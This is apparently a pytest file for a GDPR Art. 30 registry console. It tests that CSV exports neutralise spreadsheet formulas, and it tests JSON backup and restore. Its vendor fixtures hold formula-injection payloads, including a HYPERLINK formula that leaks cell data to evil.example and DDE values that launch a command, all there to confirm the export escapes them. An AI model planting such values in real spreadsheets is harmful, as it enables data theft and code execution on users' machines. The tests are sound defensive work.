"""Exports as the DPO uses them, through the console (`python bot.py` as a subprocess): the Art. 30 CSV opened in
a spreadsheet, and `export json` as the backup that `bot.py --restore` brings back."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import orjson
import pytest
from audit_log import audit_log
from test_console import console

from registry.export import ART30_COLUMNS, export_csv
from registry.schema import META_TABLE

SELF = "Nordlys Eiendomsdrift AS"
# Names and services a vendor list can carry into the registry, each of which a spreadsheet would run as a
# formula if written as it is.
HOSTILE_VENDORS = [
    ('=HYPERLINK("http://evil.example/?x="&A2,"V")', "=1+2"),
    ("+47 Telefon AS", "+47 22 33 44 55 support line"),
    ("-2+3+cmd|' /C calc'!A0", "-hosting"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "@payroll"),
    ("\t=Tab AS", "\t=tab service"),
    ("\r=CR AS", " =spaced service"),
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _json_replies(stdout: str) -> list[dict]:
    return [json.loads(line) for line in stdout.splitlines()]


def test_export_csv_neutralises_formulas_from_an_imported_vendor_list(tmp_path: Path) -> None:
    vendors = tmp_path / "vendors.csv"
    with vendors.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["name", "processor for", "service", "country"])
        for name, service in [*HOSTILE_VENDORS, ("Plain Vendor AS", "Hosting")]:
            writer.writerow([name, SELF, service, "NO"])
    commands = (
        f'party add "{SELF}" orgnr=925813745 self=yes\nimport csv vendors.csv\nimport apply 1\nexport csv art30.csv\n'
    )
    result = console(commands, "--json", "--db", "r.json", cwd=tmp_path)
    replies = _json_replies(result.stdout)
    assert [r["ok"] for r in replies] == [True] * 4, result.stdout
    rows = replies[-1]["data"]["rows"]  # the rows as the registry holds them
    assert {r["processor"] for r in rows} >= {'=HYPERLINK("http://evil.example/?x="&A2,"V")', "+47 Telefon AS"}

    with (tmp_path / "art30.csv").open(newline="", encoding="utf-8-sig") as f:
        written = list(csv.DictReader(f))
    assert len(written) == len(rows) == len(HOSTILE_VENDORS) + 1
    neutralised = 0
    for row, cells in zip(rows, written, strict=True):
        for column in ART30_COLUMNS:
            value, cell = row[column], cells[column]
            assert not cell.lstrip().startswith(FORMULA_START), (column, cell)
            if value.lstrip().startswith(FORMULA_START):
                assert cell == "'" + value  # shown as text, and reads as before: '+47 22 33 44 55 support line
                neutralised += 1
            else:
                assert cell == value  # everything else exactly as before
    # processor, purpose and recipients of each hostile row
    assert neutralised == 3 * len(HOSTILE_VENDORS)
    assert any(c["processor"] == '\'=HYPERLINK("http://evil.example/?x="&A2,"V")' for c in written)


@pytest.mark.parametrize(
    "value,cell",
    [
        ("=1+1", "'=1+1"),
        ("+47 22 33 44 55", "'+47 22 33 44 55"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\tplain", "'\tplain"),
        ("  =1+1", "'  =1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign
        ("-5", "-5"),  # a plain number cannot be a formula
        ("+1.5", "+1.5"),
        ("Nordlys Eiendomsdrift AS", "Nordlys Eiendomsdrift AS"),
        ("x\r=1+1", "x\r=1+1"),  # quoted by the writer: the CR does not start a row
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_each_cell_that_a_spreadsheet_would_run_gets_a_leading_quote(value: str, cell: str) -> None:
    row = {column: "" for column in ART30_COLUMNS} | {"purpose": value}
    written = next(csv.DictReader(io.StringIO(export_csv([row]))))
    assert written["purpose"] == cell


# -- export json as a backup, and --restore ---------------------------------------------------------------------

BUILD = """demo
party add "Gone AS" country=NO
party remove "Gone AS"
inquiry new Jeg vil ha innsyn i alt dere har lagret om meg. Mvh Kari. received=2026-11-10 from=kari@example.com
inquiry new Please delete my account and all data about me. received=2026-11-02
inquiry extend 2 reason="Many systems to search"
export json backup.json
"""


def _tables(path: Path) -> dict:
    return orjson.loads(path.read_bytes())


def test_export_json_then_restore_brings_back_the_whole_registry(tmp_path: Path) -> None:
    built = console(BUILD, "--json", "--db", "old.json", cwd=tmp_path)
    assert all(r["ok"] for r in _json_replies(built.stdout)), built.stdout
    backup = _tables(tmp_path / "backup.json")
    assert backup["inquiries"][0]["text"].startswith("Jeg vil ha innsyn")  # (export is for the privacy team only)
    assert (tmp_path / "backup.json").stat().st_mode & 0o777 == 0o600  # and so is the file: no one else may read it

    restored = console("", "--db", "new.json", "--restore", "backup.json", cwd=tmp_path)
    assert restored.returncode == 0, restored.stderr
    assert "Restored 15 parties" in restored.stdout and "2 inquiries" in restored.stdout

    old, new = _tables(tmp_path / "old.json"), _tables(tmp_path / "new.json")
    for table in ("parties", "engagements", "subprocessors", "transfers", "agreements", "proposals", "inquiries"):
        assert new[table] == old[table], table
    old_audit, new_audit = audit_log(tmp_path / "old.json"), audit_log(tmp_path / "new.json")
    assert backup["audit"] == [{"id": int(key), **event} for key, event in old_audit.items()]
    restore_event = new_audit.pop(str(len(old_audit) + 1))
    assert new_audit == old_audit
    assert restore_event["action"] == "restore" and "backup.json" in restore_event["command"]

    check = console(
        'inquiry show 1\ninquiry show 2\ninquiry list\nwho IWMAC\nparty add "Later AS"\n',
        "--json",
        "--db",
        "new.json",
        cwd=tmp_path,
    )
    first, second, listing, iwmac, later = _json_replies(check.stdout)
    assert first["data"]["text"].startswith("Jeg vil ha innsyn") and first["data"]["due"] == "2026-12-10"
    assert second["data"]["extended"] is True and second["data"]["current_due"] == "2027-02-02"
    assert "#1" in listing["text"] and "#2" in listing["text"]
    assert "processor" in iwmac["data"]["roles"]
    # "Gone AS" had the highest id and was removed: the restored registry does not give its id to another party.
    gone = next(e for e in old_audit.values() if e["action"] == "remove" and e["kind"] == "parties")
    assert later["data"]["party"]["id"] == gone["record"] + 1


def test_restore_refuses_a_registry_that_is_not_empty_and_changes_nothing(tmp_path: Path) -> None:
    console(BUILD, "--db", "old.json", cwd=tmp_path)
    assert console('party add "Existing AS"\n', "--db", "new.json", cwd=tmp_path).returncode == 0
    before = (tmp_path / "new.json").read_bytes()
    result = console("", "--db", "new.json", "--restore", "backup.json", cwd=tmp_path)
    assert result.returncode == 2
    assert "Cannot restore:" in result.stderr and "is not empty (1 parties" in result.stderr
    assert "Restore into a new file" in result.stderr
    assert (tmp_path / "new.json").read_bytes() == before


@pytest.mark.parametrize(
    "change,message",
    [
        (lambda b: b["parties"][0].update(name=42), "has a damaged record: parties #1: name must be text"),
        (lambda b: b["parties"].append(dict(b["parties"][0])), "a record of parties has no id, or an id used twice"),
        (lambda b: b.pop("schema"), "is not a registry backup made by `export json`"),
        (lambda b: b.update(schema=99), "has schema version 99, made by a newer version"),
    ],
    ids=["damaged record", "id used twice", "not an export", "newer schema"],
)
def test_restore_refuses_a_backup_that_is_not_sound(tmp_path: Path, change, message: str) -> None:
    console(BUILD, "--db", "old.json", cwd=tmp_path)
    backup = _tables(tmp_path / "backup.json")
    change(backup)
    (tmp_path / "backup.json").write_bytes(orjson.dumps(backup))
    result = console("", "--db", "new.json", "--restore", "backup.json", cwd=tmp_path)
    assert result.returncode == 2, result.stdout
    assert "Cannot restore:" in result.stderr and message in result.stderr and "Nothing was restored" in result.stderr
    assert "Traceback" not in result.stderr
    fresh = _tables(tmp_path / "new.json")
    assert all(not table for name, table in fresh.items() if name != META_TABLE)


def test_restore_from_a_file_that_is_not_there(tmp_path: Path) -> None:
    result = console("", "--db", "new.json", "--restore", "missing.json", cwd=tmp_path)
    assert result.returncode == 2
    assert "Cannot restore: cannot read missing.json: No such file or directory." in result.stderr
